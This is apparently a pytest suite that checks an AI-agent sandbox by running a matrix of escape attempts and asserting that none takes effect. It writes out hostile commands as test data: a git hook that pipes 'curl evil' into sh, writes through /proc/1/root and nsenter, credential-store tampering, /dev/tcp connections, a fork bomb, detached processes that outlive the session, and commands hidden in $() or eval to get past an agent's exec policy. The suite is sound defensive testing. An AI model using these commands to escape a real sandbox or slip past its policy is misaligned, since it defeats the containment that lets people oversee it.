"""The sandbox escape matrix: every case tries a concrete escape and must leave no effect.

CI runs as root, so file permissions prove nothing here: every containment below comes from
the sandbox (mount namespace and read-only binds, or Landlock; PID and network namespaces;
cgroup and rlimits). Each case asserts the effect itself did not happen: the file outside is
unchanged, the loopback server saw no connection, no host process carries the case's marker.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import attrs
import pytest

from tau_core import Agent, Authority
from tau_core.testing import ScriptedModel
from tau_tools._sandbox import (
    SandboxResult,
    available_backends,
    policy_for,
    run_sandboxed,
)
from tau_tools._shell import ShellTool

BACKENDS = available_backends()
pytestmark = pytest.mark.skipif(not BACKENDS, reason="no sandbox works on this host")
PY_DIRS = sorted(
    {sys.prefix, sys.base_prefix, str(Path(os.path.realpath(sys.executable)).parents[1])}
)
PY = sys.executable


@attrs.define
class Env:
    ws: Path
    outside: Path
    victim: Path
    home: Path
    marker: str
    port: int = 0
    port6: int = 0
    hits: list[str] = attrs.field(factory=list)

    def sub(self, text: str) -> str:
        return text.format(
            ws=self.ws, outside=self.outside, victim=self.victim, home=self.home, py=PY,
            port=self.port, port6=self.port6, marker=self.marker,
        )  # fmt: skip


def _serve(family: int, host: str, hits: list[str]) -> tuple[socket.socket, int]:
    srv = socket.socket(family, socket.SOCK_STREAM)
    srv.bind((host, 0))
    srv.listen(8)
    srv.settimeout(0.2)

    def loop() -> None:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and srv.fileno() != -1:
            try:
                conn, _ = srv.accept()
            except (TimeoutError, OSError):
                continue
            hits.append(host)
            conn.close()

    threading.Thread(target=loop, daemon=True).start()
    return srv, srv.getsockname()[1]


@pytest.fixture(params=BACKENDS)
def env(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Env]:
    monkeypatch.setenv("TAU_SANDBOX_BACKEND", request.param)
    ws, outside, home = tmp_path / "ws", tmp_path / "outside", tmp_path / "tau-home"
    for d in (ws / ".git" / "hooks", ws / "src", ws / ".tau", outside, home):
        d.mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".tau" / "credentials.tau").write_text("SEALED")
    (home / "credentials.tau").write_text("SEALED")
    victim = outside / "victim"
    victim.write_text("original")
    e = Env(ws, outside, victim, home, f"tau-escape-{uuid.uuid4().hex}")
    servers = []
    srv, e.port = _serve(socket.AF_INET, "127.0.0.1", e.hits)
    servers.append(srv)
    if socket.has_ipv6:
        try:
            srv6, e.port6 = _serve(socket.AF_INET6, "::1", e.hits)
            servers.append(srv6)
        except OSError:
            pass
    yield e
    for s in servers:
        s.close()


def _marked_pids(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{entry}/environ").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


def _run(e: Env, command: str, *, grants: tuple[str, ...] = ("read:.", "write:."),
         workdir: Path | None = None, **limits: object) -> SandboxResult:  # fmt: skip
    wd = workdir or e.ws
    policy = policy_for(Authority.parse(grants), wd, env={"TAU_MARK": e.marker})
    policy = attrs.evolve(policy, read_paths=(*policy.read_paths, *map(Path, PY_DIRS)), **limits)
    return asyncio.run(
        run_sandboxed(["bash", "--noprofile", "--norc", "-c", e.sub(command)], policy)
    )


def _unchanged(e: Env) -> None:
    assert e.victim.read_text() == "original"
    assert sorted(p.name for p in e.outside.iterdir()) == ["victim"]


def _creds_intact(e: Env) -> None:
    assert (e.home / "credentials.tau").read_text() == "SEALED"
    assert (e.ws / ".tau" / "credentials.tau").read_text() == "SEALED"


def _git_intact(e: Env) -> None:
    assert (e.ws / ".git" / "config").read_text() == "[core]\n"
    assert list((e.ws / ".git" / "hooks").iterdir()) == []


def _no_connection(e: Env) -> None:
    time.sleep(0.3)
    assert e.hits == []


WRITES: list[tuple[str, str, Callable[[Env], None]]] = [
    ("absolute path", "echo pwned > {victim}", _unchanged),
    ("dot-dot", "echo pwned > ../outside/victim", _unchanged),
    ("new file outside", "touch {outside}/new", _unchanged),
    ("symlink to a file", "ln -s {victim} link; echo pwned > link", _unchanged),
    ("symlink to a dir", "ln -s {outside} d; echo pwned > d/new", _unchanged),
    ("hardlink", "ln {victim} hl; echo pwned >> hl", _unchanged),
    ("rename over a file", "echo pwned > f; mv -f f {victim}", _unchanged),
    ("rename a file away", "mv {victim} ./stolen", _unchanged),
    ("delete outside", "rm -rf {outside}", _unchanged),
    ("/proc/self/root", "echo pwned > /proc/self/root{victim}", _unchanged),
    ("/proc/1/root", "echo pwned > /proc/1/root{victim}", _unchanged),
    ("python open()", "{py} -c \"open('{victim}', 'w').write('pwned')\"", _unchanged),
    ("remount rw", "mount -o remount,rw {outside}; echo pwned > {victim}", _unchanged),
    ("new user namespace", "unshare -Urm sh -c 'echo pwned > {victim}'", _unchanged),
    ("nsenter host", "nsenter -t 1 -a sh -c 'echo pwned > {victim}'", _unchanged),
    (
        ".git/hooks",
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/*",
        _git_intact,
    ),
    (".git/config", "echo '[core] hooksPath=/x' >> .git/config", _git_intact),
    ("remove .git", "rm -rf .git", _git_intact),
    ("credential store outside", "echo stolen > {home}/credentials.tau", _creds_intact),
    ("credential store deleted", "rm -f {home}/credentials.tau", _creds_intact),
]


@pytest.mark.parametrize(("case", "command", "check"), WRITES, ids=[w[0] for w in WRITES])
def test_writes_outside_the_grants_do_not_happen(env: Env, case: str, command: str,
                                                 check: Callable[[Env], None]) -> None:  # fmt: skip
    result = _run(env, command)
    check(env)
    assert result.confinement in BACKENDS


def test_credential_store_inside_the_workdir_but_not_granted(env: Env) -> None:
    # Only src/ is writable: the workdir itself (and its .tau/credentials.tau) is not.
    result = _run(
        env, "echo ok > src/fine; echo stolen > .tau/credentials.tau", grants=("write:src",)
    )
    assert (env.ws / "src" / "fine").read_text() == "ok\n"
    _creds_intact(env)
    assert result.exit_code != 0


def test_host_tmp_and_shm_are_not_written(env: Env) -> None:
    names = [Path("/tmp") / env.marker, Path("/dev/shm") / env.marker]
    _run(env, f"echo x > /tmp/{env.marker}; echo x > /dev/shm/{env.marker}")
    assert not any(p.exists() for p in names)


NETWORK = [
    (
        "python socket",
        "{py} -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\"",
    ),
    ("bash /dev/tcp", "echo hi > /dev/tcp/127.0.0.1/{port}"),
    ("curl", "curl -sS -m 2 http://127.0.0.1:{port}/"),
    (
        "python socket ::1",
        "{py} -c \"import socket; socket.create_connection(('::1', {port6}), 2)\"",
    ),
    (
        "host address",
        '{py} -c "import socket; socket.create_connection((socket.gethostname(), {port}), 2)"',
    ),
]


@pytest.mark.parametrize(("case", "command"), NETWORK, ids=[n[0] for n in NETWORK])
def test_no_network_without_a_net_grant(env: Env, case: str, command: str) -> None:
    if case == "curl" and shutil.which("curl") is None:
        pytest.skip("curl is not installed")
    if case.endswith("::1") and not env.port6:
        pytest.skip("no IPv6 loopback")
    result = _run(env, command)
    _no_connection(env)
    assert result.exit_code != 0


def test_the_loopback_server_is_reachable_with_a_net_grant(env: Env) -> None:
    # The control for the network cases: the same connection works when granted.
    result = _run(env, NETWORK[0][1], grants=("read:.", "net:127.0.0.1"))
    assert result.exit_code == 0, result.stderr
    time.sleep(0.3)
    assert env.hits == ["127.0.0.1"]


def test_fork_bomb_is_contained(env: Env) -> None:
    before = len(os.listdir("/proc"))
    result = _run(env, ":(){{ :|:& }};:", timeout=4.0, max_processes=64, cpu_seconds=10)
    assert result.process_limit in ("cgroup", "rlimit", "exceeded")
    assert _marked_pids(env.marker) == []
    assert len(os.listdir("/proc")) < before + 20


def test_memory_bomb_is_contained(env: Env) -> None:
    cmd = "{py} -c \"b = bytearray(6 << 30); open('{ws}/allocated', 'w').write('yes')\""
    result = _run(env, cmd, memory_bytes=512 << 20)
    assert result.exit_code != 0
    assert not (env.ws / "allocated").exists()


def test_file_size_bomb_is_contained(env: Env) -> None:
    result = _run(env, "head -c 50000000 /dev/zero > big", file_size_bytes=1 << 20)
    assert result.exit_code != 0
    assert (env.ws / "big").stat().st_size <= 1 << 20


def test_cpu_bomb_is_stopped_by_the_cpu_limit(env: Env) -> None:
    result = _run(env, "{py} -c 'while True: pass'; echo done > spun", cpu_seconds=1, timeout=30.0)
    assert result.duration < 20
    assert (env.ws / "spun").read_text() == "done\n"  # the child died of SIGXCPU, bash went on


ESCAPEES = [
    ("setsid", "setsid bash -c 'sleep 2; echo escaped > {ws}/escaped' & sleep 60"),
    ("double fork", "( ( sleep 2; echo escaped > {ws}/escaped ) & ) ; sleep 60"),
    (
        "nohup + disown",
        "nohup bash -c 'sleep 2; echo escaped > {ws}/escaped' >/dev/null 2>&1 & disown; sleep 60",
    ),
    (
        "left behind at exit",
        "setsid bash -c 'sleep 2; echo escaped > {ws}/escaped' & echo main done",
    ),
]


@pytest.mark.parametrize(("case", "command"), ESCAPEES, ids=[c[0] for c in ESCAPEES])
def test_escaped_processes_die_with_the_sandbox(env: Env, case: str, command: str) -> None:
    result = _run(env, command, timeout=1.0)
    assert _marked_pids(env.marker) == []
    time.sleep(3)
    assert not (env.ws / "escaped").exists()
    assert result.timed_out == (case != "left behind at exit")


def test_cancelling_the_call_kills_the_tree(env: Env) -> None:
    policy = attrs.evolve(
        policy_for(Authority.parse(["write:."]), env.ws, env={"TAU_MARK": env.marker})
    )
    argv = ["bash", "-c", "setsid bash -c 'sleep 2; echo escaped > escaped' & sleep 60"]

    async def main() -> None:
        task = asyncio.ensure_future(run_sandboxed(argv, policy))
        await asyncio.sleep(0.7)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(main())
    assert _marked_pids(env.marker) == []
    time.sleep(3)
    assert not (env.ws / "escaped").exists()


def test_host_processes_cannot_be_signalled(env: Env) -> None:
    host = subprocess.Popen(["sleep", "30"])
    try:
        _run(env, f"kill -9 {host.pid}; kill -9 -1")
        time.sleep(0.2)
        assert host.poll() is None
    finally:
        host.kill()
        host.wait()


HIDDEN = [
    ("$(...)", "echo $(touch {ws}/hidden)"),
    ("backticks", "echo `touch {ws}/hidden`"),
    ("semicolon", "echo hi; touch {ws}/hidden"),
    ("pipe", "echo hi | touch {ws}/hidden"),
    ("and-list", "echo hi && touch {ws}/hidden"),
    ("subshell", "(touch {ws}/hidden)"),
    ("process substitution", "cat <(touch {ws}/hidden)"),
    ("bash -c string", "bash -c 'touch {ws}/hidden'"),
    ("eval", "eval 'touch {ws}/hidden'"),
    ("function body", "f() {{ touch {ws}/hidden; }}; f"),
    ("computed name", "$(echo touch) {ws}/hidden"),
]


@pytest.mark.parametrize(("case", "command"), HIDDEN, ids=[h[0] for h in HIDDEN])
def test_hidden_commands_are_denied_before_running(env: Env, tau_plugins: object, case: str,
                                                   command: str) -> None:  # fmt: skip
    # echo, cat and bash are granted; touch is not: the call must be denied and not run.
    text = env.sub(command)
    model = ScriptedModel([{"tool_calls": [{"name": "shell", "arguments": {"command": text}}]}])
    authority = Authority.parse(
        ["read:.", "write:.", "exec:echo", "exec:cat", "exec:bash"], approval="never"
    )
    outcome = Agent(model, authority=authority, tools=[ShellTool()], unverified=True,
                    plugins=tau_plugins).run("try", workdir=env.ws)  # fmt: skip
    [record] = outcome.evidence.tool_calls
    assert record.result is not None and record.result.error is not None
    assert record.result.error.code in ("policy_denied", "unsafe_command"), record.result
    assert not (env.ws / "hidden").exists()
